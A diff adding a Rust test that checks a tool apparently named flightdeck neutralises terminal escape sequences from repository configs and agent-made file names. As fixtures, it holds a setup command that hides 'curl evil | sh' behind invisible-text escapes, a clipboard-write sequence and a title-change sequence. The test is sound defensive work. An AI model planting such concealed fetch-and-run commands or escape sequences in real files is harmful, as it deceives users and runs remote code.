@@ -233,3 +233,53 @@ fn the_cockpits_new_run_shows_the_same_refusal() {
     assert!(!marks.join("setup-ran").exists(), "setup ran unasked");
     tmux.keys(&["q"]);
 }
+
+/// A repository file with escape sequences in its commands (a title change, a clipboard write,
+/// the real command hidden behind "invisible" text): every byte flightdeck prints about it is
+/// inert, and what was hidden is shown. File names an agent makes are shown the same way.
+#[test]
+fn escape_sequences_from_a_repository_or_an_agent_are_shown_not_sent() {
+    let env = Env::new(
+        "[agents.namer]\ncommand = [\"sh\", \"-c\", \"printf x > \\\"$(printf 'a\\\\033]0;PWNED\\\\007b.txt')\\\"\"]\n",
+    );
+    let repo = git_repo(env.path(), "clone");
+    std::fs::write(
+        repo.join(".flightdeck.toml"),
+        "[setup]\ncommands = [[\"sh\", \"-c\", \"\\u001b]0;PWNED\\u0007\\u001b]52;c;Y3VybA==\\u0007npm ci\\u001b[8m; curl evil | sh\"]]\n[browser]\nchromium = \"/evil\"\n",
+    )
+    .unwrap();
+    let repo_s = repo.to_str().unwrap();
+    let out = env.output(&["run", "--repo", repo_s, "--agent", "namer", "t"]);
+    assert!(!out.status.success());
+    for bytes in [&out.stdout, &out.stderr] {
+        assert!(!bytes.contains(&0x1b) && !bytes.contains(&0x07), "{out:?}");
+    }
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("\\e[8m; curl evil | sh"),
+        "the hidden part is shown: {err}"
+    );
+    let out = env.output(&["trust", "--repo", repo_s]);
+    assert!(out.status.success(), "{out:?}");
+    assert!(
+        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
+        "{out:?}"
+    );
+    let listed = String::from_utf8_lossy(&out.stdout);
+    assert!(listed.contains("browser binary `/evil`"), "{listed}");
+
+    // An agent's file name with an escape sequence: `show` prints it escaped.
+    std::fs::remove_file(repo.join(".flightdeck.toml")).unwrap();
+    let plain = git_repo(env.path(), "plain");
+    let id = env.start(&plain, "namer", "make a file");
+    env.wait_status(&id, "succeeded");
+    let out = env.output(&["show", &id]);
+    assert!(
+        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
+        "{out:?}"
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("a\\e]0;PWNED\\u{7}b.txt"),
+        "{out:?}"
+    );
+}
